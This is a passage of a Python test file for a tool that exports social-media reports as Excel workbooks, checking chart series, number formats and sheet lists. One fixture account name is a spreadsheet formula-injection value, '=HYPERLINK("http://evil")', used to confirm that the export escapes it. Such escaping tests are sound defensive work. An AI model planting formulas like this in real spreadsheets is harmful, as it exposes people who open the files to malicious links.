    assert [c.value for c in accounts[3]] == ["Compte", "Cette période", "Période précédente"]
    assert [[c.value for c in row] for row in accounts.iter_rows(min_row=4)] == [
        ["'=HYPERLINK(\"http://evil\") · Instagram", 0.0425, 0.055], ["Maison Lumière · Facebook", 0.025, None]]
    (bars,) = accounts._charts
    assert isinstance(bars, BarChart) and bars.type == "col"
    assert [s.val.numRef.f for s in bars.series] == ["'Par compte'!$B$4:$B$5", "'Par compte'!$C$4:$C$5"]
    assert {s.cat.strRef.f for s in bars.series} == {"'Par compte'!$A$4:$A$5"}
    assert bars.y_axis.number_format.formatCode == "0%"


def test_a_report_without_a_trend_or_a_second_account_has_no_chart_sheets():
    from cmflow.presentation.language import language
    from cmflow.builtin.reports.workbook import document_sheets

    document = charted_document()
    flat = dataclasses.replace(document, headline=[dataclasses.replace(f, trend=()) for f in document.headline],
                               platforms=document.platforms[:1])
    assert [s.name for s in document_sheets(flat, language("en"))] == ["Summary", "Instagram"]
